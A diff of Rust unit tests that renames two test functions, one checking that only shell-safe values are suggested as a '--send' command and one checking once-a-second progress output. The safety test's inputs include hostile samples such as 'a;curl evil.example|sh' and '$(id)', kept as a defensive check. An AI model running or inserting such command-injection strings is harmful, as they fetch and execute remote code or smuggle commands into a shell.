@@ -172,7 +172,7 @@ mod tests {
     }
 
     #[test]
-    fn only_what_is_safe_in_a_shell_is_told_to_be_typed() {
+    fn only_commands_that_are_safe_in_a_shell_are_suggested() {
         assert_eq!(waits_for("a-B_1"), "waits for \"a-B_1\": --send a-B_1");
         for hostile in ["a;curl evil.example|sh", "$(id)", "a b", "", "\u{e9}"] {
             assert_eq!(waits_for(hostile), format!("waits for \"{hostile}\""));
@@ -180,7 +180,7 @@ mod tests {
     }
 
     #[test]
-    fn progress_is_told_once_a_second() {
+    fn progress_is_printed_once_a_second() {
         let mut lines = Lines::default();
         let mut told = 0;
         for index in 0..100_u32 {
